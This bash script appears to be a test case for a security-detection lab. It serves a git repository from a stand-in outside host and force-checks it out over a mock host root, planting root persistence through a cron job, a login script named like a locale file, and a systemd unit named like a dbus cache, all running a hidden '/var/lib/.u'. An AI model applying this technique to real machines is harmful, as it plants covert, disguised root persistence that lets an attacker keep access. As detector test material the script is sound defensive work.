#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=git far=out ready=out:9418 seconds=16 parts=dns before=yes
# git checks out what somebody outside keeps right over the host: a job of cron, a script for every login, a unit; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = out ]; then
	k=$LAB/kit; mkdir -p "$k"/etc/{cron.d,profile.d,systemd/system}; cd "$k" || exit 1
	echo '*/10 * * * * root /var/lib/.u' >etc/cron.d/certs; echo '/var/lib/.u &' >etc/profile.d/00-locale.sh; printf '[Service]\nExecStart=/var/lib/.u\n' >etc/systemd/system/dbus-cache.service
	git init -q . && git add . && git -c user.name=x -c user.email=x@x commit -qm x; exec timeout 40 git daemon --export-all --listen=203.0.113.66 --port=9418 --base-path="$LAB" --reuseaddr 2>/dev/null
fi
sleep 2; git --git-dir="$LAB/.g" init -q; git --git-dir="$LAB/.g" fetch -q git://203.0.113.66/kit HEAD && git --git-dir="$LAB/.g" --work-tree="$LAB/host" checkout -q -f FETCH_HEAD; sleep 6
grep -q .u "$LAB/host/etc/cron.d/certs" && grep -q ExecStart "$LAB/host/etc/systemd/system/dbus-cache.service"
